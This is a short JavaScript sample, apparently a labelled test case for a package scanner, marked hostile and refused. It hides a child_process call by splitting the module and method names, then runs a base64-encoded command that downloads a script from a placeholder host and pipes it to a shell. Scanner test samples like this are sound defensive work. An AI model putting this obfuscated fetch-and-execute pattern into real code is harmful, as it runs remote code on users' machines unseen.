// Hostile: names of module and function are put together, so that no search finds them.
// Families: child-process, obfuscation. As a package: refused.
const load = require;
const part = ['chi', 'ld_', 'pro', 'cess'].join('');
const tool = load(part);
const encoded = Buffer.from('Y3VybCBodHRwczovL3guZXhhbXBsZS5pbnZhbGlkL2kgfCBzaA==', 'base64').toString();
tool['ex' + 'ec'](encoded, () => {});
